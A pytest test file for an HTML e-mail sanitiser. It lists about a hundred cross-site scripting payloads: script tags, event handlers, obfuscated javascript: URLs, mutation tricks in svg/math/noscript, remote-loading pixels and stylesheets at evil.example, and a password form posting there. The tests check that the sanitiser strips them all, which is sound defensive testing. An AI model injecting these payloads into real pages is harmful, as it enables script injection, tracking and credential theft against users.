"""An application's HTML: the shapes of scripts, loads, covers and tricks that do not survive, and what does.

The shapes are those that public collections of cross-site scripting list, written here anew.
Over 300 lines, because each way to run or load something from HTML is tried here.
"""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailstep.reply.sanitising import CLASSES, sanitise, without_markup

SHAPES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a.png 2x' src='cid:pixel'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='CID:bar'>",
    "<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b>",
    "<picture><source srcset=https://evil.example/a.png></picture>",
    "<video src=https://evil.example/a.mp4 poster=https://evil.example/a.png onplay=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<embed src=https://evil.example/a.swf>",
    "<object data=javascript:alert(1)></object>",
    "<applet code=x></applet>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p on\nclick=alert(1)>x</p>",
    "<div onpointerrawupdate=alert(1)>x</div>",
    "<body onload=alert(1) background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><td background=javascript:alert(1)>x",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<STYLE>li{list-style-image:url('javascript:alert(1)')}</STYLE>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:absolute;top:0;left:0;width:9999px;height:9999px;z-index:9999'>covers</p>",
    "<p style='display:none;font-size:0;color:#fff'>hidden</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml)'>x</p>",
    "<p class='gmail_quote evil'>x</p>",
    "<p id=main>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?import namespace='t' implementation='#default#time2'>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<abbr title='x\"onmouseover=alert(1) y=\"'>x</abbr>",
    "<td colspan='1\" onmouseover=\"alert(1)'>x</td>",
    "<img alt='<script>alert(1)</script>' src='cid:bar' width='1;background:red' height='100000px'>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example/x.html></layer>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
]
TEXT = {"alt", "title"}
ALLOWED = {
    "align",
    "class",
    "colspan",
    "dir",
    "height",
    "href",
    "lang",
    "rel",
    "rowspan",
    "scope",
    "src",
    "start",
    "width",
}
TAGS_THAT_ACT = {
    *("script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "svg", "math", "form", "input"),
    *("button", "video", "audio", "source", "template", "noscript", "body", "html", "head", "details", "marquee"),
}


class Reader(HTMLParser):
    """Reads as a browser would, and remembers what could act."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in TAGS_THAT_ACT:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if not self._is_harmless(tag, name, value or ""):
                self.wrong.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    @staticmethod
    def _is_harmless(tag: str, name: str, value: str) -> bool:
        match name:
            case "href":
                return tag == "a" and value.startswith(("http://", "https://", "mailto:", "tel:"))
            case "src":
                return tag == "img" and value == "cid:bar"
            case "class":
                return set(value.split()) <= CLASSES
            case "width" | "height":
                return value.rstrip("%").isdigit()
        return name in ALLOWED | TEXT


def wrong_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("shape", SHAPES)
def test_nothing_that_acts_survives(shape: str) -> None:
    for html in (shape, f"<p>before {shape} after</p>", f"<table><tr><td>{shape}</td></tr></table>"):
        safe, _ = sanitise(html, frozenset({"bar"}))
        assert wrong_in(safe) == [], safe
        # What a client reads again, after it has changed it, is as harmless.
        assert sanitise(safe, frozenset({"bar"}))[0] == safe


def test_the_shapes_do_act_where_nothing_is_sanitised() -> None:
    """So that the reader above is known to see them: all but those that only a browser's own repairs make act."""
    assert sum(bool(wrong_in(shape)) for shape in SHAPES) > 0.8 * len(SHAPES)


@given(st.lists(st.sampled_from(SHAPES) | st.text(max_size=10), max_size=4).map("".join))
def test_nor_does_any_mixture_of_them(html: str) -> None:
    assert wrong_in(sanitise(html, frozenset({"bar"}))[0]) == []


def test_what_an_answer_is_made_of_survives() -> None:
    html = (
        '<h2>Order</h2><p class="note">Two <b>lines</b>, a <a href="https://shop.example/4711">link</a></p>'
        '<div class="scroll"><table><thead><tr><th scope="col">SKU</th></tr></thead>'
        '<tbody><tr><td class="n" colspan="2">12</td></tr></tbody></table></div>'
        '<figure><img src="cid:bar" alt="a bar" width="120" height="12"><figcaption>Sales</figcaption></figure>'
        "<ul><li>one</li></ul><blockquote>quoted</blockquote><pre><code>x</code></pre>"
    )
    safe, shown = sanitise(html, frozenset({"bar"}))
    assert safe.replace(' rel="noopener noreferrer"', "") == html
    assert shown == {"bar"}


@pytest.mark.parametrize("href", ["cid:bar", "CID:bar", " cid:bar", "cid:other"])
def test_a_link_leads_out_of_the_message_and_a_picture_is_no_link(href: str) -> None:
    safe, shown = sanitise(f'<p><a href="{href}">x</a></p>', frozenset({"bar"}))
    assert "href" not in safe
    assert shown == frozenset()
    assert 'href="https://shop.example/"' in sanitise('<a href="https://shop.example/">x</a>')[0]


# The elements of HTML that hold text, lists, tables, figures and links (HTML Living Standard, 4.3 to 4.9).
KEPT = [
    "a", "abbr", "b", "blockquote", "caption", "code", "dd", "del", "div", "dl", "dt", "em", "figcaption", "figure",
    "h1", "h2", "h3", "h4", "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span",
    "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var",
]  # fmt: skip
VOID = ("br", "hr", "img", "wbr")
"""Elements without content."""
WITHIN = {
    **dict.fromkeys(("caption", "tbody", "tfoot", "thead"), "<table>{}</table>"),
    "tr": "<table><tbody>{}</tbody></table>",
    **dict.fromkeys(("td", "th"), "<table><tbody><tr>{}</tr></tbody></table>"),
}


@pytest.mark.parametrize("tag", KEPT)
def test_each_element_of_a_text_a_list_a_table_or_a_figure_survives(tag: str) -> None:
    made = WITHIN.get(tag, "{}").format(f"<{tag}>" + ("" if tag in WITHIN and tag[0] != "c" else "x") + f"</{tag}>")
    assert f"<{tag}" in sanitise(made)[0]


@pytest.mark.parametrize("tag", VOID)
def test_each_element_without_content_survives(tag: str) -> None:
    assert f"<{tag}" in sanitise(f"x<{tag}>x")[0]
    columns = sanitise("<table><colgroup><col></colgroup><tbody></tbody></table>")[0]
    assert "<colgroup><col></colgroup>" in columns


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('<p dir="rtl">x</p>', 'dir="rtl"'),
        ('<p lang="ar">x</p>', 'lang="ar"'),
        ('<a title="t" href="https://shop.example/">x</a>', 'title="t"'),
        ('<abbr title="t">x</abbr>', 'title="t"'),
        ('<ol start="3"><li>x</li></ol>', 'start="3"'),
        *(
            (f'<table><tbody><tr><{cell} {name}="{value}">x</{cell}></tr></tbody></table>', f'{name}="{value}"')
            for cell in ("td", "th")
            for name, value in (("align", "right"), ("colspan", "2"), ("rowspan", "2"), ("scope", "row"))
        ),
        *((f'<img src="cid:bar" {name}="{size}">', f'{name}="{size}"') for name in ("width", "height")
          for size in ("120", "100%", "9999")),
        ('<img alt="a bar" src="cid:bar">', 'alt="a bar"'),
        *((f'<p class="{name}">x</p>', f'class="{name}"') for name in ("n", "note", "scroll")),
        *((f'<a href="{url}">x</a>', f'href="{url}"')
          for url in ("http://shop.example/", "https://shop.example/", "mailto:ann@shop.example", "tel:+4930123")),
    ],
)  # fmt: skip
def test_each_attribute_that_only_describes_survives(written: str, kept: str) -> None:
    assert kept in sanitise(written, frozenset({"bar"}))[0]


@pytest.mark.parametrize("size", ["10000", "1;x", "%", "", "-1", "1e3", "50%%", "a50"])
def test_a_picture_has_no_size_that_covers_the_message(size: str) -> None:
    safe = sanitise(f'<img src="cid:bar" width="{size}" height="{size}">', frozenset({"bar"}))[0]
    assert "width" not in safe
    assert "height" not in safe


@pytest.mark.parametrize(
    "tag",
    ["script", "style", "title", "template", "noscript", "iframe", "object", "svg", "math", "textarea", "select", "xmp",
     "noembed", "noframes"],
)  # fmt: skip
def test_what_is_no_text_to_read_is_not_read(tag: str) -> None:
    """A client would show the content of an element whose tags only are removed."""
    safe, _ = sanitise(f"<p>before</p><{tag}>hidden</{tag}><p>after</p>")
    assert "hidden" not in safe
    assert "before" in safe
    assert "after" in safe
    assert "hidden" not in sanitise("<plaintext>hidden")[0]


@pytest.mark.parametrize("source", ["cid:other", "bar", "https://evil.example/x.png", "CID:bar", "cid:", "cid:cid:bar"])
def test_only_a_picture_of_the_answer_is_shown(source: str) -> None:
    """RFC 2392; a remote picture tells its owner who read the mail."""
    safe, shown = sanitise(f'<img src="{source}" alt="a">', frozenset({"bar"}))
    assert "src" not in safe
    assert shown == frozenset()
    assert sanitise('<img src="cid:a"><img src="cid:b">', frozenset({"a", "b", "c"}))[1] == {"a", "b"}


def test_html_is_lines_of_its_blocks_for_a_reader_without_html() -> None:
    html = (
        "<style>p {color: red}</style><script>alert(1)</script><p>Dear\n   Ann,</p>\n\n<p>a &amp; b<br>c &lt; d</p>"
        "<table><tr><th>No.</th><th>Article</th></tr><tr><td>1</td><td>Pen <b>blue</b></td></tr></table>"
        "<ul><li>one</li><li>two</li></ul><div> </div><h2>End</h2>XX"
    )
    read = without_markup(html)
    assert read.split("\n") == ["Dear Ann,", "a & b", "c < d", "No. Article", "1 Pen blue", "one", "two", "End", "XX"]


def test_what_a_browser_shows_to_nobody_is_no_text_of_the_html() -> None:
    tags = ("title", "noscript", "template", "svg", "textarea", "iframe")
    hidden = "".join(f"<{tag}>not shown</{tag}>" for tag in tags)
    assert without_markup(f"<p>shown</p>{hidden}") == "shown"
